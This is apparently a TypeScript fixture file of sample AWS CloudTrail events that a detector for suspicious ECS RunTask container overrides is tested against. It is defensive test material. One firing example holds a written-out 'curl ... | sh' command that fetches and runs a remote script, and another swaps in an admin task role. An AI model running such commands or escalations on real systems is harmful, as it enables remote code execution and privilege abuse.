import { ACCOUNT, cloudTrailEvent, failed, identities } from '../examples/events.js';
import type { CloudTrailEvent, DetectorExamples } from '../types.js';

/** RunTask as ECS logs it. */
const runTask = (
  overrides: Record<string, unknown> | undefined,
  extra: Partial<CloudTrailEvent> = {},
) =>
  cloudTrailEvent({
    eventSource: 'ecs.amazonaws.com',
    eventName: 'RunTask',
    userIdentity: identities.iamUser('mallory'),
    requestParameters: {
      cluster: 'prod',
      taskDefinition: 'orders-api:42',
      count: 1,
      launchType: 'FARGATE',
      networkConfiguration: {
        awsvpcConfiguration: { subnets: ['subnet-0a1b2c3d'], assignPublicIp: 'DISABLED' },
      },
      ...(overrides ? { overrides } : {}),
    },
    responseElements: {
      tasks: [
        {
          taskArn: `arn:aws:ecs:us-east-1:${ACCOUNT}:task/prod/0123456789abcdef0123456789abcdef`,
          lastStatus: 'PROVISIONING',
        },
      ],
      failures: [],
    },
    ...extra,
  });

export const examples: DetectorExamples = {
  fire: [
    {
      name: 'the API container made to fetch and run a script (high)',
      events: [
        runTask({
          containerOverrides: [
            { name: 'api', command: ['sh', '-c', 'curl -s http://203.0.113.7/s | sh'] },
          ],
        }),
      ],
    },
    {
      name: 'a plain command override (medium)',
      events: [
        runTask({
          containerOverrides: [{ name: 'api', command: ['python', 'manage.py', 'shell'] }],
        }),
      ],
    },
    {
      name: 'the task role replaced with an admin role',
      events: [
        runTask({ taskRoleArn: `arn:aws:iam::${ACCOUNT}:role/OrgAdmin`, containerOverrides: [] }),
      ],
    },
  ],
  noFire: [
    { name: 'no overrides', events: [runTask(undefined)] },
    {
      name: 'only memory overridden',
      events: [runTask({ containerOverrides: [{ name: 'api', memory: 1024 }] })],
    },
    {
      name: 'an EventBridge schedule passing a command',
      events: [
        runTask(
          { containerOverrides: [{ name: 'api', command: ['python', 'jobs/nightly.py'] }] },
          {
            userIdentity: {
              ...identities.assumedRole('ecsEventsRole', 'scheduler'),
              invokedBy: 'events.amazonaws.com',
            },
          },
        ),
      ],
    },
    {
      name: 'refused',
      events: [
        failed(
          runTask({ containerOverrides: [{ name: 'api', command: ['sh'] }] }),
          'AccessDeniedException',
        ),
      ],
    },
  ],
};
